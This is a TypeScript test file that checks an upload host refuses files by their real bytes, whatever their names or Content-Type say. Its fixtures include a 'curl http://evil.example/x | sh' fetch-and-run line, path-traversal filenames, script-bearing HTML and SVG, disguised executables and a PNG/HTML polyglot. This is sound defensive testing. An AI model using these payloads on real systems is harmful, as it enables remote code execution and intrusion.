/**
 * Upload bytes that are not an accepted type, whatever their name or Content-Type says, against
 * the real host (faults/support/upload-host.ts): refused with a 415 and no trace. The bytes decide,
 * never the name.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { executableHeader, makeExe, makePng, makeSvg } from '../host/media/test-files.js';
import { errorOf, expectRefused, refusalWith } from './support/raw-http.js';
import { sha256Of } from './support/samples.js';
import type { Snapshot } from './support/snapshot.js';
import { begin, describeUploads, fileOf, release, upload } from './support/upload-host.js';

const unknownType = /^This file's type could not be recognised\. Accepted are /;
const notAccepted = /^This file is .+, which is not accepted\. Accepted are /;
const svg = /^SVG files can carry scripts, so they are not accepted/;
const html =
  '<!doctype html><html><body><script>fetch("/api/call/admin:get")</script></body></html>';
const cases: [name: string, bytes: Buffer, message: RegExp][] = [
  ['photo.png', Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n'), unknownType],
  ['../../etc/passwd', Buffer.from('root:x:0:0:root:/root:/bin/bash\n'), unknownType],
  ['banner.jpg', Buffer.from(html), unknownType],
  ['../../index.html', Buffer.from(html.repeat(100)), unknownType],
  ['index.json', Buffer.from('[]\n'), unknownType],
  ['logo.png', makeSvg(), svg],
  ['logo.svg', makeSvg(false), svg],
  ['logo.webp', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf, 0x20, 0x0a]), makeSvg()]), svg],
  ['movie.mp4', executableHeader(), notAccepted],
  ['picture.jpg', makeExe(), notAccepted],
  [
    'poster.png',
    Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n', 'latin1'),
    notAccepted,
  ],
  // (A GIF header followed by junk is tested below: animated GIFs are accepted now, so it is a
  // damaged picture rather than a refused type.)
  [
    'clip.webm',
    Buffer.concat([Buffer.from([0x1f, 0x8b, 0x08, 0x00]), Buffer.alloc(400)]),
    notAccepted,
  ],
];

describeUploads('uploads whose bytes are not an accepted type', (run) => {
  it.each(cases)('refuses %s by its bytes, leaving no trace', async (name, bytes, message) => {
    const before = await run.snap();
    const { reply } = await upload(run.staff, name, bytes);
    const what = `${name} (${bytes.subarray(0, 12).toString('latin1')}...)`;
    expectRefused(reply, 415, message, what);
    expect(errorOf(reply)?.code, what).toBe('unsupported-type');
    await run.expectNoTrace(before, what);
  });

  it('refuses a GIF header followed by junk as a damaged picture, leaving no trace', async () => {
    const before = await run.snap();
    const bytes = Buffer.concat([Buffer.from('GIF89a'), Buffer.alloc(400, 1)]);
    const { reply } = await upload(run.staff, 'anim.png', bytes);
    expectRefused(reply, 400, /^This picture is incomplete or damaged: /, 'anim.png (GIF89a...)');
    expect(refusalWith(reply, 'invalid-input').details).toEqual({ detected: 'image/gif' });
    await run.expectNoTrace(before, 'anim.png (GIF89a...)');
  });

  // The host takes upload chunks only as application/octet-stream.
  describe('chunks labelled as something else', () => {
    let before: Snapshot;
    let uploadId = '';
    const boundary = 'kiosk-boundary';
    const form = Buffer.from(
      [
        `--${boundary}`,
        'Content-Disposition: form-data; name="file"; filename="../../a.png"',
        'Content-Type: image/png',
        '',
        html,
        `--${boundary}`,
        'Content-Disposition: form-data; name="file"; filename="b.png"',
        'Content-Type: image/png',
        '',
        html,
        `--${boundary}--`,
        '',
      ].join('\r\n'),
    );
    const multipart = { 'content-type': `multipart/form-data; boundary=${boundary}` };

    beforeAll(async () => {
      before = await run.snap();
      uploadId = await begin(run.staff, 'labelled.png', 500);
    });

    it('refuses a chunk labelled as a picture, a video or a page by its Content-Type', async () => {
      for (const type of ['image/png', 'video/mp4', 'text/html', 'image/svg+xml']) {
        expectRefused(
          await run.staff.chunk(uploadId, 0, Buffer.from(html), { 'content-type': type }),
          415,
          /Unsupported Media Type/,
          `a chunk labelled ${type}`,
        );
      }
    });

    it('refuses a chunk sent as a form with two files', async () => {
      expectRefused(
        await run.staff.chunk(uploadId, 0, form, multipart),
        415,
        /Unsupported Media Type/,
        'a chunk sent as a form with two files',
      );
    });

    it('refuses a begin sent as a form with two files', async () => {
      expectRefused(
        await run.staff.request('media:upload-begin', {
          path: '/api/call/media:upload-begin',
          headers: multipart,
          body: form,
        }),
        415,
        /Unsupported Media Type/,
        'a begin sent as a form with two files',
      );
    });

    it('refuses bytes inside JSON: they are not bytes', async () => {
      expectRefused(
        await run.staff.call('media:upload-chunk', {
          uploadId,
          offset: 0,
          bytes: [...makePng()],
        }),
        400,
        /Some values are not valid/,
        'a chunk as a JSON array',
      );
    });

    it('left no trace of the mislabelled requests', async () => {
      await release(run.staff, uploadId);
      await run.expectNoTrace(before, 'mislabelled requests');
    });
  });

  // A PNG with HTML after its end is served as image/png that browsers must not sniff.
  it.each([
    ['clip.mp4', makePng(8, 6, 200)],
    ['page.html', Buffer.concat([makePng(8, 6, 201), Buffer.from(html)])],
  ] as const)('stores PNG bytes named %s as a PNG, served nosniff', async (name, bytes) => {
    const accepted = await run.snap();
    const { reply } = await upload(run.staff, name, bytes);
    expect(reply.status, `${name}: ${reply.text}`).toBe(200);
    expect(reply.body).toMatchObject({ kind: 'image', mime: 'image/png', name });
    const file = fileOf(reply);
    expect(file).toBe(`${sha256Of(bytes)}.png`);
    const served = await run.staff.get(`/media/${file}`);
    expect(served.status).toBe(200);
    expect(served.headers['content-type']).toBe('image/png');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.headers['content-security-policy']).toContain("default-src 'self'");
    await run.expectOnlyNewMedia(accepted, [file], 'PNG bytes under other names');
  });
});
